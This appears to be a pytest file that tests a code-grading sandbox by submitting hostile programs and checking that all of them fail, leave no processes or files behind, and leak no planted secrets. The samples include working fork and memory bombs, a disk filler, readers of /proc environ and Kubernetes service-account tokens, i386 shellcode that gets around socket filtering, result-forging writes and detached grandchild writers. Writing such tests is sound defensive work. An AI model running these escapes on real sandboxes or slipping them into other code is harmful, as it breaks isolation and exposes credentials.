"""Hostile programs through the real `valley grade` CLI, under both sandboxes.

Every program prints the expected answer ("ok") only if its attack worked, so an escape shows
up as a pass. After the batch: every verdict fails, a sentinel graded after the attacks still
passes (the grader stayed up), no process is left, nothing appeared outside the scratch dir, no
planted secret appears in any output, and the loopback listener the test opened saw no
connection. Network probes target only that listener.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest

from tests.conftest import grader_cli_entry, python_as_nobody, require_tool, require_uid_switch
from tests.valley.grader.standalone import grader_package
from valley.grader.grading import read_verdicts

ROOT = Path(__file__).resolve().parents[3]
SA_TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")

I386_SOCKET_ATTACK = """
import ctypes, mmap, socket, struct
# push rbx; mov eax, 102 (socketcall); mov ebx, 1 (SYS_SOCKET); mov ecx, args; int 0x80; pop rbx; ret
page = mmap.mmap(
    -1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
)
base = ctypes.addressof(ctypes.c_char.from_buffer(page))
code = b"\\x53\\xb8" + struct.pack("<I", 102) + b"\\xbb" + struct.pack("<I", 1)
code += b"\\xb9" + struct.pack("<I", base + 256) + b"\\xcd\\x80\\x5b\\xc3"
page[:len(code)] = code
page[256:268] = struct.pack("<III", socket.AF_INET, socket.SOCK_STREAM, 0)
fd = ctypes.CFUNCTYPE(ctypes.c_int)(base)()
if fd >= 0:
    s = socket.socket(fileno=fd)
    s.connect(("127.0.0.1", PORT))
    s.sendall(b"escaped")
    print("ok")
"""

#: a grandchild in its own session that outlives the program and writes outside its sandbox later
DOUBLE_FORKED_LATE_WRITER = """
if os.fork() == 0:
    {before_setsid}
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if os.fork() == 0:
        time.sleep(1)
        for path in OUTSIDE:
            try:
                open(path, "w").write("late")
            except OSError:
                pass
        time.sleep(600)
    os._exit(0)
print("no")
"""


HOSTILE = {
    "kill_parent_and_group": """
import os, signal
for target in (os.getppid(), -os.getpgid(os.getppid()) if os.getppid() > 1 else 0, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
print("no")
""",
    "forge_result_channel": """
import os
fake = '{"status": "exited", "stdout": "ok\\\\n", "stderr": "", "time_s": 0.0, "max_rss_kb": 1}\\n'
for fd in range(3, 64):
    for path in (f"/proc/{os.getppid()}/fd/{fd}", f"/proc/1/fd/{fd}"):
        try:
            with open(path, "w") as handle:
                handle.write(fake)
        except OSError:
            pass
""",
    "fork_bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "memory_bomb": """
hoard = []
while True:
    hoard.append(bytearray(10 ** 8))
""",
    "disk_filler": """
i = 0
while True:
    with open(f"fill{i}", "wb") as handle:
        handle.write(b"x" * 10 ** 7)
    i += 1
""",
    "endless_output": """
import sys
while True:
    sys.stdout.write("ok\\n" * 100000)
""",
    "endless_stderr": """
import sys
while True:
    sys.stderr.write("x" * 100000)
""",
    "read_secrets": """
import glob, os, sys
seen = [repr(dict(os.environ))]
paths = ["/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ", SECRET_FILE]
for path in paths + glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        with open(path, "rb") as handle:
            seen.append(handle.read().decode(errors="replace"))
    except OSError:
        pass
text = "\\n".join(seen)
if "valley-planted-" in text:
    print("ok")
sys.stderr.write(text)
raise SystemExit(3)
""",
    "read_token": """
import sys
for path in ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/kubernetes.io/serviceaccount/token"):
    try:
        with open(path) as handle:
            print("ok")
            sys.stderr.write(handle.read())
    except OSError:
        pass
raise SystemExit(3)
""",
    "network_connect": """
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
        connection.sendall(b"escaped")
        print("ok")
except OSError:
    print("no")
""",
    "write_outside_scratch": """
written = []
for path in OUTSIDE:
    try:
        with open(path, "w") as handle:
            handle.write("escaped")
        written.append(path)
    except OSError:
        pass
print("ok" if written else "no")
""",
    "detached_child": """
import os, signal, time
"""
    + DOUBLE_FORKED_LATE_WRITER.format(before_setsid="pass"),
    "ignore_sigterm": """
import signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
time.sleep(600)
""",
    "write_every_fd": """
import os
fake = b'{"status": "exited", "stdout": "ok\\n", "stderr": "", "time_s": 0.0, "max_rss_kb": 1}\\n'
for fd in range(0, 1024):
    try:
        os.write(fd, fake)
    except OSError:
        pass
""",
    "i386_entry": I386_SOCKET_ATTACK,
    "x32_entry": """
import ctypes, socket
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(0x40000000 | 41, socket.AF_INET, socket.SOCK_STREAM, 0)
if fd >= 0:
    s = socket.socket(fileno=fd)
    s.connect(("127.0.0.1", PORT))
    s.sendall(b"escaped")
    print("ok")
""",
    "prctl_games": """
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: keep orphans from the harness
libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
libc.prctl(15, b"harness", 0, 0, 0)  # PR_SET_NAME: look like the harness
libc.prctl(0x59616d61, -1, 0, 0, 0)  # PR_SET_PTRACER_ANY
"""
    + DOUBLE_FORKED_LATE_WRITER.format(before_setsid="libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG off"),
    "read_other_scratch": """
import glob, os
found = []
for pattern in (SANDBOXES + "/*/scratch/**", "/proc/[0-9]*/cwd/**", "/proc/[0-9]*/root/scratch/**"):
    for path in glob.glob(pattern, recursive=True):
        try:
            if os.path.isfile(path) and not path.startswith(os.getcwd()):
                open(path).read()
                found.append(path)
        except OSError:
            pass
print("ok" if found else "no")
""",
    "close_stdout": """
import os
os.close(1)
os.close(2)
print("ok")
""",
}

SENTINEL = 'print(input().strip() and "ok")\n'


def hostile_problem() -> dict:
    case = [{"input": "1\n", "output": "ok\n", "testtype": "stdin"}]
    return {
        "question_id": "hostile",
        "question_title": "hostile",
        "question_content": "print ok",
        "platform": "atcoder",
        "contest_id": "h",
        "contest_date": "2024-09-01T00:00:00",
        "starter_code": "",
        "difficulty": "easy",
        "public_test_cases": json.dumps(case),
        "private_test_cases": "[]",
        "metadata": "{}",
    }


@pytest.fixture
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    connections: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            connections.append(connection.recv(100) or b"connected")
            connection.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], connections
    stop.set()
    thread.join()
    server.close()


@pytest.fixture
def planted_token():
    """A fake service-account token at the real path, when the machine has none and we may write it."""
    if SA_TOKEN.parent.exists() or os.geteuid() != 0:
        yield None
        return
    value = f"valley-planted-{uuid.uuid4().hex}"
    SA_TOKEN.parent.mkdir(parents=True)
    SA_TOKEN.write_text(value)
    SA_TOKEN.chmod(0o644)  # as kubelet projects it: readable by any uid in the pod
    try:
        yield value
    finally:
        shutil.rmtree("/var/run/secrets")


def leftover_processes(*markers: str) -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            uid = Path(f"/proc/{entry}/status").read_text().split("\nUid:")[1].split()[0]
        except (OSError, IndexError):
            continue
        if any(marker in cmdline for marker in markers) or 100_000 <= int(uid) < 1_100_000:
            found.append(f"{entry} uid={uid} {cmdline[:200]}")
    return found


class HostileBatch:
    """The batch's files, secrets and escape targets, laid out under `root`."""

    def __init__(self, root: Path, port: int, skip: tuple[str, ...] = ()):
        self.root = root
        self.secret_env = f"valley-planted-{uuid.uuid4().hex}"
        self.secret_file = root / "secret-token"
        self.secret_file.write_text(f"valley-planted-{uuid.uuid4().hex}")
        self.secret_file.chmod(0o600)
        open_dir = root / "world-writable"
        open_dir.mkdir()
        open_dir.chmod(0o777)
        marker = f"valley-hostile-{uuid.uuid4().hex[:8]}"
        self.outside = [
            str(open_dir / "escaped"),
            f"/tmp/{marker}",
            f"/var/tmp/{marker}",
            f"/dev/shm/{marker}",
            str(Path.cwd() / marker),
        ]
        self.sandbox_tmp = root / "sandboxes"
        self.sandbox_tmp.mkdir()
        self.problems, self.generations, self.out = (
            root / "problems.jsonl",
            root / "generations.jsonl",
            root / "verdicts.jsonl",
        )
        self.problems.write_text(json.dumps(hostile_problem()) + "\n")
        self.rows = []
        for name, code in HOSTILE.items():
            if name in skip:
                continue
            code = (
                code.replace("SECRET_FILE", repr(str(self.secret_file)))
                .replace("PORT", str(port))
                .replace("OUTSIDE", repr(self.outside))
                .replace("SANDBOXES", repr(str(self.sandbox_tmp)))
            )
            self.rows.append({"question_id": "hostile", "sample_id": name, "response": f"```python\n{code}\n```"})
        self.rows.append({"question_id": "hostile", "sample_id": "sentinel", "response": f"```python\n{SENTINEL}```"})
        self.generations.write_text("".join(json.dumps(r) + "\n" for r in self.rows))

    def env(self) -> dict[str, str]:
        return {"VALLEY_PLANTED_SECRET": self.secret_env, "VALLEY_GRADER_TMPDIR": str(self.sandbox_tmp)}

    def check(self, printed: str, connections: list[bytes], planted_token: str | None, *markers: str) -> None:
        verdicts = read_verdicts(self.out)
        assert set(verdicts) == {("hostile", r["sample_id"]) for r in self.rows}
        escaped = {name: v["verdict"] for (_, name), v in verdicts.items() if name != "sentinel" and v["passed"]}
        assert not escaped
        assert verdicts[("hostile", "sentinel")]["verdict"] == "pass"
        assert not any(v["verdict"] == "infra_error" for v in verdicts.values())
        # the sandboxes' processes die with them (a killed PID namespace goes down shortly after its
        # init): once none is left, no delayed write (the detached children's) can still come
        deadline = time.monotonic() + 10
        while (left := leftover_processes(str(self.sandbox_tmp), *markers)) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert left == []
        assert [path for path in self.outside if os.path.exists(path)] == []
        assert list(self.sandbox_tmp.iterdir()) == []  # every sandbox's working dir removed
        assert connections == []
        everything = self.out.read_text() + printed
        for secret in (self.secret_env, self.secret_file.read_text(), planted_token):
            if secret:
                assert secret not in everything


@pytest.mark.slow
@pytest.mark.parametrize("sandbox", ["process", pytest.param("runsc", marks=pytest.mark.runsc)])
def test_hostile_programs_fail_and_leave_nothing_behind(valley, tmp_path, listener, planted_token, sandbox):
    if sandbox == "runsc":
        require_tool("runsc", "apt-get install -y runsc")
    port, connections = listener
    batch = HostileBatch(tmp_path, port)
    result = valley(
        [
            "grade",
            "--problems",
            batch.problems,
            "--generations",
            batch.generations,
            "--out",
            batch.out,
            "--sandbox",
            sandbox,
            "--workers",
            "2",
            "--timeout-s",
            "2",
        ],
        env=batch.env(),
        timeout=300,
    )
    batch.check(result.stdout + result.stderr, connections, planted_token)


# Without a mount namespace the program shares the grader's file system and uid: it can write
# where the grader can (world-writable /tmp) and read what the grader can (a token file that is
# mounted). Pods never mount a service-account token into the grader (automount off) and run it
# under gVisor; docs/grader.md lists this. Every other attack must still fail there.
NO_NAMESPACE_SKIPS = ("write_outside_scratch", "read_token")


@pytest.mark.slow
@pytest.mark.parametrize("sandbox", ["process", "unsafe-local", pytest.param("runsc", marks=pytest.mark.runsc)])
def test_hostile_programs_under_a_non_root_grader(listener, planted_token, sandbox):
    """The grader image runs non-root on the standard library alone: the same batch as uid 65534
    (a rootless user namespace / `runsc --rootless`, or no namespaces at all, as in a pod whose
    seccomp profile forbids `unshare`), through `python -m valley.grader grade`."""
    system_python = require_uid_switch()
    if sandbox == "runsc":
        require_tool("runsc", "apt-get install -y runsc")
    port, connections = listener
    root = Path(tempfile.mkdtemp(prefix="valley-nonroot-"))
    try:
        root.chmod(0o777)
        package = grader_package(root / "pkg") / "valley"
        batch = HostileBatch(root, port, skip=NO_NAMESPACE_SKIPS if sandbox == "unsafe-local" else ())
        for path in (batch.sandbox_tmp, root / "pkg"):
            subprocess.run(["chmod", "-R", "a+rwX", str(path)], check=True)
        batch.out.touch()
        batch.out.chmod(0o666)
        for path in (batch.problems, batch.generations):
            path.chmod(0o644)
        result = python_as_nobody(
            system_python,
            grader_cli_entry(package.parent),
            ["grade", "--problems", batch.problems, "--generations", batch.generations, "--out", batch.out]
            + ["--sandbox", sandbox, "--workers", "2", "--timeout-s", "2"],
            env={"PATH": "/usr/bin:/bin", "HOME": str(root), **batch.env()},
            timeout=300,
        )
        assert result.returncode == 0, result.stderr
        batch.check(result.stdout + result.stderr, connections, planted_token, str(package.parent))
    finally:
        shutil.rmtree(root, ignore_errors=True)


@pytest.mark.slow
def test_files_hidden_by_their_modes_are_still_watched_and_removed_under_a_non_root_grader(tmp_path):
    """A directory the program makes unlistable (0300, 0) neither hides files from the disk
    watch nor survives the cleanup where the grader, non-root and without namespaces, shares the
    program's uid (the pods' in-gvisor mode is checked the same way in test_grader_isolation)."""
    from tests.valley.grader import probes

    system_python = require_uid_switch()
    root = Path(tempfile.mkdtemp(prefix="valley-hidden-"))
    try:
        root.chmod(0o755)
        package = grader_package(root / "pkg")
        scratch = root / "sandboxes"
        scratch.mkdir()
        subprocess.run(["chown", "-R", "65534:65534", str(scratch)], check=True)
        script = (
            f"import json, sys; sys.path.insert(0, {str(package)!r})\n"
            "from valley.grader.grading import grade_code\n"
            "from valley.grader.pool import POOL\n"
            "from valley.grader.problem import Problem, TestCase\n"
            "problem = Problem('p', (TestCase('1\\n', 'ok\\n'),), timeout_s=5)\n"
            f"programs = ({probes.fill(probes.HIDDEN_DISK_FILLER)!r}, {probes.fill(probes.HIDE_FILES)!r})\n"
            "verdicts = [grade_code(problem, code, sandbox='unsafe-local', limits={'scratch_mb': 16}).status\n"
            "            for code in programs]\n"
            "POOL.close_all()\n"
            "print(json.dumps(verdicts))\n"
        )
        result = python_as_nobody(
            system_python,
            script,
            [],
            env={"PATH": "/usr/bin:/bin", "HOME": str(root), "VALLEY_GRADER_TMPDIR": str(scratch)},
            timeout=120,
        )
        assert result.returncode == 0, result.stderr
        filler, hider = json.loads(result.stdout)
        assert filler == "wrong_answer"  # stopped at 16 MiB however hidden: output over the size cap
        assert hider == "wrong_answer"
        assert [str(p) for p in scratch.rglob("*")] == []  # nothing left, modes notwithstanding
    finally:
        subprocess.run(["chmod", "-R", "u+rwx", str(root)], capture_output=True)
        shutil.rmtree(root, ignore_errors=True)
